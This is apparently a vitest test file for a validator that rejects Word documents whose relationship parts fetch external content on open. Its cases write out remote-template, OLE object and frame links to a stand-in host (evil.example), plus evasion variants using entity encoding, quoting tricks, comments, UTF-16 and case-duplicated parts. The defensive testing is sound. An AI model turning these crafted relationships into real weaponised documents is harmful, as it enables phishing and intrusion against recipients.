import { describe, expect, test } from 'vitest'
import { docxWith } from '../../../test/sample-files.ts'
import { isPlainDocument } from './plain-document.ts'

describe('a Word file', () => {
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const listing = (relations: string) =>
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`
  const isPlainWith = (text: string | Uint8Array, name = 'word/_rels/settings.xml.rels') => {
    return isPlainDocument(docxWith({ [name]: typeof text === 'string' ? Buffer.from(text) : text }))
  }
  const relation = (type: string, rest = 'TargetMode="External"') =>
    `<Relationship Id="rId1" Type="${office}/${type}" Target="https://evil.example/t.dotm" ${rest}/>`

  test.each([
    ['a template', listing(relation('attachedTemplate'))],
    ['a picture', listing(relation('image'))],
    ['an object', listing(relation('oleObject'))],
    ['a frame', listing(relation('frame'))],
    ['a template in a spelling of XML', listing(relation('attachedTemplate', 'TargetMode="&#69;xternal"'))],
    ['a template with apostrophes', listing(relation('attachedTemplate', "TargetMode = 'External'"))],
    [
      'a template that speaks of a link',
      listing(relation('attachedTemplate', `x=' Type="${office}/hyperlink"' TargetMode="External"`)),
    ],
    ['a comment', listing(`<!-- " -->${relation('attachedTemplate')}<!-- " -->`)],
    ['an entity', `<!DOCTYPE x [<!ENTITY e "External">]>${listing('')}`],
    ['UTF-16', Buffer.from(listing(relation('attachedTemplate')), 'utf16le')],
    ['too long a list', listing(' '.repeat(2_100_000))],
  ])('that fetches something as it is opened is refused: %s', (_, text) => {
    expect(isPlainWith(text)).toBe(false)
    expect(isPlainWith(text, 'word/_rels/document.xml.rels')).toBe(false)
    expect(isPlainWith(text, 'word/_rels/SETTINGS.XML.RELS')).toBe(false)
  })

  test('that has a part twice is refused: each program takes another of them', () => {
    const own = listing(relation('hyperlink'))
    const twice = Buffer.from(
      docxWith({ 'word/_rels/a.xml.rels': Buffer.from(own), 'word/_rels/b.xml.rels': Buffer.from(own) }),
    )
    expect(isPlainDocument(twice)).toBe(true)
    const same = twice.toString('latin1').replaceAll('word/_rels/b.xml.rels', 'word/_rels/A.xml.rels')
    expect(isPlainDocument(Buffer.from(same, 'latin1'))).toBe(false)
  })

  test('with links to press and parts of its own is taken', () => {
    const own = `<Relationship Id="rId2" Type="${office}/styles" Target="styles.xml"/>`
    const named = relation('image', 'TargetMode="Internal"').replace(/https:[^"]*/, 'media/image1.png')
    expect(isPlainWith(`\uFEFF${listing(own + named + relation('hyperlink'))}`)).toBe(true)
  })
})
